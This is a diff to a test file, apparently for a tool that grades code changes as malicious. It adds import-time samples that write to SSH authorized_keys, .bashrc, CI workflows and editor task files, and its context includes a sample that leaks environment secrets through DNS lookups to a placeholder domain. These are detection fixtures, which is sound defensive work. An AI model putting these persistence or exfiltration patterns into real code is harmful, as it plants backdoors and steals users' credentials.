@@ -127,3 +127,22 @@ it('variables of the environment by names from a list leave in name lookups', as
   const after = `const { lookup } = require('dns'); for (const name of ['A_TOKEN', 'B_SECRET']) { const v = process.env[name]; if (v) lookup(Buffer.from(v).toString('hex') + '.d.invalid', () => {}) }`;
   expect(await grade(`require('dns').lookup('one.invalid', () => {})`, after)).toBe('convicts');
 });
+
+describe('a way back in, written by importing', () => {
+  const write = (path: string, when = 'RUN') =>
+    `const fs = require('fs'), os = require('os'), path = require('path');\n${when.replace('RUN', `try { fs.appendFileSync(${path}, 'line') } catch {}`)}`;
+
+  it.each([
+    ['keys that may log in', `path.join(os.homedir(), '.ssh', 'authorized_keys')`, 'convicts'],
+    ['what shells run', `os.homedir() + '/.bashrc'`, 'convicts'],
+    ['workflows of the project', `path.join(process.cwd(), '.github', 'workflows', 'x.yml')`, 'suspicious'],
+    ['tasks of the editor', `'.vscode/tasks.json'`, 'suspicious'],
+  ])('%s', async (_, path, told) => {
+    expect(await grade('module.exports = 1', write(path))).toBe(told);
+    expect(['none', 'weak']).toContain(await grade('module.exports = 1', write(path, 'exports.set = () => { RUN }')));
+  });
+
+  it('reading them is another matter', async () => {
+    expect(await grade('module.exports = 1', `require('fs').readFileSync(require('os').homedir() + '/.bashrc')`)).toBe('weak');
+  });
+});
